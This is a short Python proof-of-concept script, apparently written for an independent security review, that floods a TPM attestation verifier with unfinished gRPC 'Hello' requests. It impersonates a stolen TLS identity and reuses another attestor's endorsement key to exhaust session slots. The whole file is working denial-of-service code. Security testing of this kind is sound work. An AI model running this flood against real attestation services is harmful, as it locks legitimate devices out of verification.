#!/usr/bin/python3
"""A flood of push Hellos under one TLS identity, never finished (first written
by the independent review; test_session_flood.sh).
  starve_sessions.py --stubs DIR --verifier HOST:PORT --source HOST:PORT --pki DIR --as NAME --seconds S
Takes an endorsement and AK from any pull attestor (--source: the attacker's
own TPM, or one whose public EK it knows) and says Hello with them under the
stolen identity NAME again and again, never activating: each Hello holds a
session slot of NAME until session_ttl (or until a newer one of NAME displaces
it). Prints how many Hellos were accepted and refused."""
import argparse, os, sys, time
ap = argparse.ArgumentParser()
for o in ("--stubs", "--verifier", "--source", "--pki", "--as"):
    ap.add_argument(o, required=True)
ap.add_argument("--seconds", type=float, default=20)
a = ap.parse_args()
sys.path.insert(0, a.stubs)
import grpc, attest_pb2 as pb, attest_pb2_grpc as rpc
rd = lambda f: open(os.path.join(a.pki, f), "rb").read()
cred = lambda n: grpc.ssl_channel_credentials(rd("ca.pem"), rd(n + ".key"), rd(n + ".pem"))
src = rpc.AttestorStub(grpc.secure_channel(a.source, cred("verifier")))
e = src.GetEndorsement(pb.Empty(), timeout=20)
k = src.GetAttestationKey(pb.Empty(), timeout=20)
ver = rpc.VerifierStub(grpc.secure_channel(a.verifier, cred(getattr(a, "as"))))
ok = refused = 0
end = time.time() + a.seconds
while time.time() < end:
    try:
        ver.Hello(pb.PushHello(endorsement=e, ak=k), timeout=10)
        ok += 1
    except grpc.RpcError as err:
        refused += 1
        if err.code() != grpc.StatusCode.RESOURCE_EXHAUSTED:
            print("unexpected:", err.code(), err.details())
        time.sleep(0.005)
print("hellos accepted %d, refused %d" % (ok, refused))
